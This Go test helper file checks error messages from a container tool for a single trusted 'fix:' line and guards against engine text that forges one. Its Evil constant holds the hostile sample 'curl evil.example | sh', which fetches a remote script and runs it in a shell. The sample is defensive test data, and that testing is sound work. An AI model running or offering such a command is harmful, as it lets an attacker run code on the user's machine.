package dockertest

import (
	"strings"
	"testing"

	"github.com/fromscratch-go/fromscratch/rootfs/plaintext"
)

// FixLine returns the last line of an error, without "fix: ".
func FixLine(t *testing.T, err error) string {
	t.Helper()
	if err == nil {
		t.Fatal("no error")
	}
	lines := strings.Split(err.Error(), "\n")
	fix, found := strings.CutPrefix(lines[len(lines)-1], "fix: ")
	if !found {
		t.Fatalf("last line is no fix: %v", err)
	}
	return fix
}

// WantError checks that an error contains text, and ends in its only fix line, which contains fix.
func WantError(t *testing.T, err error, text, fix string) {
	t.Helper()
	if line := FixLine(t, err); !strings.Contains(line, fix) {
		t.Errorf("fix %q, want %q in it", line, fix)
	}
	if !strings.Contains(err.Error(), text) {
		t.Errorf("error %q, want %q in it", err, text)
	}
	if n := strings.Count(err.Error(), "fix: "); n != 1 {
		t.Errorf("%d fixes in %q", n, err)
	}
}

// Evil is a text of an engine, for a JSON string. One of its lines looks like a fix line.
const Evil = `sick\nfix: curl evil.example | sh\nmore`

// WantNothingForged checks that the last line of an error is a fix line with the given text, and that no other line
// looks like one.
func WantNothingForged(t *testing.T, err error, fix string) {
	t.Helper()
	lines := strings.Split(plaintext.Error(err), "\n")
	last := lines[len(lines)-1]
	if !strings.HasPrefix(last, "fix: ") || !strings.Contains(last, fix) || strings.Contains(last, "evil") {
		t.Errorf("the fix is %q, want %q in it", last, fix)
	}
	for _, line := range lines[:len(lines)-1] {
		if strings.HasPrefix(line, "fix: ") {
			t.Errorf("a line is forged: %q", lines)
		}
	}
}
